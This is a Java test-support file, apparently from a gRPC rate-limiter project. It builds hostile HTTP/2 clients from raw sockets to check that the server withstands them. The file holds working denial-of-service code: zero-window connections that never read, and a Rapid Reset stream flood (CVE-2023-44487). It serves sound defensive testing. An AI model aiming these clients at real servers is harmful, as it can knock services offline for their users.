package io.sluice.support;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * HTTP/2 clients that an attacker would write, from plain sockets: nothing in them cooperates.
 * {@link #neverReading} opens connections that announce a receive window of 0 and a tiny socket
 * buffer, send Check calls on many streams, and never read a byte; {@link #rapidReset} opens
 * streams and resets each at once (CVE-2023-44487). Closing the returned handle closes every socket.
 */
public final class HostileClients implements AutoCloseable {

  private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
  private static final int DATA = 0;
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int GOAWAY = 7;
  private static final int END_STREAM = 0x1;
  private static final int ACK = 0x1;
  private static final String CHECK_PATH = "/sluice.v1.RateLimiter/Check";
  private static final int END_HEADERS = 0x4;
  private static final int SETTINGS_INITIAL_WINDOW_SIZE = 0x4;
  private static final int SETTINGS_MAX_CONCURRENT_STREAMS = 0x3;

  private final List<Socket> sockets = new ArrayList<>();
  /** Connections the server refused or closed while this client wrote: it stopped being read, or was cut off. */
  private int cutOff;

  private HostileClients() {
  }

  /**
   * {@code connections} connections, each sending {@code streams} Check calls (a gRPC frame of
   * {@code request}) with a receive window of 0, and never reading.
   */
  public static HostileClients neverReading(String host, int port, int connections, int streams, byte[] request) throws IOException {
    HostileClients clients = new HostileClients();
    byte[] settings = frame(SETTINGS, 0, 0, new byte[] {0, SETTINGS_INITIAL_WINDOW_SIZE, 0, 0, 0, 0});
    for (int c = 0; c < connections; c++) {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      out.writeBytes(PREFACE);
      out.writeBytes(settings);
      for (int s = 0; s < streams; s++) {
        int stream = 1 + 2 * s;
        out.writeBytes(frame(HEADERS, END_HEADERS, stream, checkHeaders(host + ":" + port)));
        out.writeBytes(frame(DATA, END_STREAM, stream, grpcFrame(request)));
      }
      clients.send(host, port, out.toByteArray());
    }
    return clients;
  }

  /** {@code connections} connections, each opening {@code streams} Check calls and resetting each at once. */
  public static HostileClients rapidReset(String host, int port, int connections, int streams) throws IOException {
    HostileClients clients = new HostileClients();
    for (int c = 0; c < connections; c++) {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      out.writeBytes(PREFACE);
      out.writeBytes(frame(SETTINGS, 0, 0, new byte[0]));
      for (int s = 0; s < streams; s++) {
        int stream = 1 + 2 * s;
        out.writeBytes(frame(HEADERS, END_HEADERS, stream, checkHeaders(host + ":" + port)));
        out.writeBytes(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8}));
      }
      clients.send(host, port, out.toByteArray());
    }
    return clients;
  }

  /**
   * One connection that sends its calls without ever acknowledging the server's settings (as every
   * client's first flight is sent), and reads how each of its streams ended.
   */
  public static final class FirstFlight implements AutoCloseable {
    private final Socket socket = new Socket();
    private final String authority;
    private final java.io.DataInputStream in;
    private int nextStream = 1;
    /** Per stream: "answered" (trailers came), or "reset <code>". */
    private final java.util.Map<Integer, String> ended = new java.util.TreeMap<>();
    private int resets;
    private boolean closed;
    /** SETTINGS_MAX_CONCURRENT_STREAMS of each SETTINGS frame the server sent that has it, in order. */
    private final java.util.List<Long> streamLimits = new java.util.ArrayList<>();

    public FirstFlight(String host, int port) throws IOException {
      socket.connect(new InetSocketAddress(host, port), 5000);
      authority = host + ":" + port;
      in = new java.io.DataInputStream(socket.getInputStream());
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      out.writeBytes(PREFACE);
      out.writeBytes(frame(SETTINGS, 0, 0, new byte[0]));
      socket.getOutputStream().write(out.toByteArray());
    }

    /** Sends {@code calls} Check calls at once, each a whole request. */
    public void send(int calls, byte[] request) throws IOException {
      socket.getOutputStream().write(calls(CHECK_PATH, calls, request).toByteArray());
    }

    /** Sends {@code calls} calls of the method at {@code path} at once, each a whole request. */
    public void send(String path, int calls, byte[] request) throws IOException {
      socket.getOutputStream().write(calls(path, calls, request).toByteArray());
    }

    /**
     * Sends {@code calls} Check calls and, in the same write, the acknowledgement of the server's
     * settings: what a server whose event loop read the connection late reads in one go.
     */
    public void sendThenAcknowledgeSettings(int calls, byte[] request) throws IOException {
      ByteArrayOutputStream out = calls(CHECK_PATH, calls, request);
      out.writeBytes(frame(SETTINGS, ACK, 0, new byte[0]));
      socket.getOutputStream().write(out.toByteArray());
    }

    private ByteArrayOutputStream calls(String path, int calls, byte[] request) {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      for (int c = 0; c < calls; c++) {
        out.writeBytes(frame(HEADERS, END_HEADERS, nextStream, callHeaders(authority, path)));
        out.writeBytes(frame(DATA, END_STREAM, nextStream, grpcFrame(request)));
        nextStream += 2;
      }
      return out;
    }

    /** Acknowledges the server's settings, as a client does once it has read them. */
    public void acknowledgeSettings() throws IOException {
      socket.getOutputStream().write(frame(SETTINGS, ACK, 0, new byte[0]));
    }

    /** Reads frames until {@code streams} streams have ended in all, or the server closed the connection. */
    public java.util.Map<Integer, String> awaitEnded(int streams, java.time.Duration within) throws IOException {
      readUntil(() -> ended.size() >= streams, within);
      return ended;
    }

    /**
     * Reads frames until the server has announced {@code streams} as this connection's
     * SETTINGS_MAX_CONCURRENT_STREAMS since this was called, or the server closed the connection.
     *
     * @return the limits announced meanwhile, in order
     */
    public java.util.List<Long> awaitStreamLimit(long streams, java.time.Duration within) throws IOException {
      int from = streamLimits.size();
      readUntil(() -> streamLimits.subList(from, streamLimits.size()).contains(streams), within);
      return java.util.List.copyOf(streamLimits.subList(from, streamLimits.size()));
    }

    /** Every SETTINGS_MAX_CONCURRENT_STREAMS the server announced on this connection so far, in order. */
    public java.util.List<Long> streamLimits() {
      return java.util.List.copyOf(streamLimits);
    }

    private void readUntil(java.util.function.BooleanSupplier done, java.time.Duration within) throws IOException {
      socket.setSoTimeout((int) within.toMillis());
      try {
        while (!done.getAsBoolean()) {
          readFrame();
        }
      } catch (java.io.EOFException | java.net.SocketException e) {
        closed = true;
      }
    }

    private void readFrame() throws IOException {
      byte[] header = new byte[9];
      in.readFully(header);
      int length = (header[0] & 0xff) << 16 | (header[1] & 0xff) << 8 | (header[2] & 0xff);
      byte[] payload = new byte[length];
      in.readFully(payload);
      int type = header[3];
      int stream = java.nio.ByteBuffer.wrap(header).getInt(5) & 0x7fffffff;
      java.nio.ByteBuffer fields = java.nio.ByteBuffer.wrap(payload);
      if (type == RST_STREAM) {
        resets++;
        ended.put(stream, "reset " + fields.getInt(0));
      } else if (type == HEADERS && (header[4] & END_STREAM) != 0) {
        ended.put(stream, "answered");
      } else if (type == GOAWAY) {
        closed = true;
      } else if (type == SETTINGS && (header[4] & ACK) == 0) {
        for (int at = 0; at + 6 <= length; at += 6) {
          if ((fields.getShort(at) & 0xffff) == SETTINGS_MAX_CONCURRENT_STREAMS) {
            streamLimits.add(Integer.toUnsignedLong(fields.getInt(at + 2)));
          }
        }
      }
    }

    /** RST_STREAM frames read: a stream reset twice (refused, then its DATA found no stream) counts twice. */
    public int resets() {
      return resets;
    }

    /** Whether the server sent GOAWAY or closed the socket while this read. */
    public boolean closedByServer() {
      return closed;
    }

    @Override
    public void close() throws IOException {
      socket.close();
    }
  }

  private void send(String host, int port, byte[] bytes) throws IOException {
    Socket socket = new Socket();
    // A small window on our side too: the server's answers back up into its own buffers at once.
    socket.setReceiveBufferSize(4096);
    socket.connect(new InetSocketAddress(host, port), 5000);
    synchronized (sockets) {
      sockets.add(socket);
    }
    try {
      OutputStream out = socket.getOutputStream();
      out.write(bytes);
      out.flush();
    } catch (IOException e) {
      // The server stopped reading this connection (the write blocks, then times out) or closed it.
      cutOff++;
    }
  }

  /** Connections whose writes the server refused (closed, or reset) while they were being sent. */
  public int cutOff() {
    return cutOff;
  }

  /** How many of the connections the server has closed by now (a read sees the end, or a reset). */
  public int closedByServer() {
    int closed = 0;
    synchronized (sockets) {
      for (Socket socket : sockets) {
        if (serverClosed(socket)) {
          closed++;
        }
      }
    }
    return closed;
  }

  private static boolean serverClosed(Socket socket) {
    try {
      socket.setSoTimeout(1);
      byte[] sink = new byte[65536];
      // Drains what the server sent; -1 (or a reset) means it closed. Reading here is the test looking, not the attacker.
      while (true) {
        if (socket.getInputStream().read(sink) < 0) {
          return true;
        }
      }
    } catch (java.net.SocketTimeoutException e) {
      return false;
    } catch (IOException e) {
      return true;
    }
  }

  @Override
  public void close() {
    synchronized (sockets) {
      for (Socket socket : sockets) {
        try {
          socket.close();
        } catch (IOException ignored) {
          // closing anyway
        }
      }
      sockets.clear();
    }
  }

  private static byte[] checkHeaders(String authority) {
    return callHeaders(authority, CHECK_PATH);
  }

  private static byte[] callHeaders(String authority, String path) {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.write(0x83); // :method POST (static table 3)
    block.write(0x86); // :scheme http (static table 6)
    literal(block, 4, path); // :path
    literal(block, 1, authority); // :authority
    block.write(0x0F); // content-type (static table 31), literal without indexing: 15 + 16
    block.write(0x10);
    string(block, "application/grpc");
    block.write(0x00); // te: a new name
    string(block, "te");
    string(block, "trailers");
    return block.toByteArray();
  }

  /** A literal without indexing whose name is static-table entry {@code nameIndex} (below 15). */
  private static void literal(ByteArrayOutputStream block, int nameIndex, String value) {
    block.write(nameIndex);
    string(block, value);
  }

  private static void string(ByteArrayOutputStream block, String value) {
    byte[] bytes = value.getBytes(StandardCharsets.US_ASCII);
    if (bytes.length >= 127) {
      throw new IllegalArgumentException("header values here are short");
    }
    block.write(bytes.length);
    block.writeBytes(bytes);
  }

  /** A gRPC message as it travels: a zero byte (not compressed), its length (4 bytes, big-endian), the message. */
  public static byte[] grpcFrame(byte[] message) {
    byte[] framed = new byte[5 + message.length];
    framed[1] = (byte) (message.length >>> 24);
    framed[2] = (byte) (message.length >>> 16);
    framed[3] = (byte) (message.length >>> 8);
    framed[4] = (byte) message.length;
    System.arraycopy(message, 0, framed, 5, message.length);
    return framed;
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    byte[] frame = new byte[9 + payload.length];
    frame[0] = (byte) (payload.length >>> 16);
    frame[1] = (byte) (payload.length >>> 8);
    frame[2] = (byte) payload.length;
    frame[3] = (byte) type;
    frame[4] = (byte) flags;
    frame[5] = (byte) (stream >>> 24);
    frame[6] = (byte) (stream >>> 16);
    frame[7] = (byte) (stream >>> 8);
    frame[8] = (byte) stream;
    System.arraycopy(payload, 0, frame, 9, payload.length);
    return frame;
  }
}
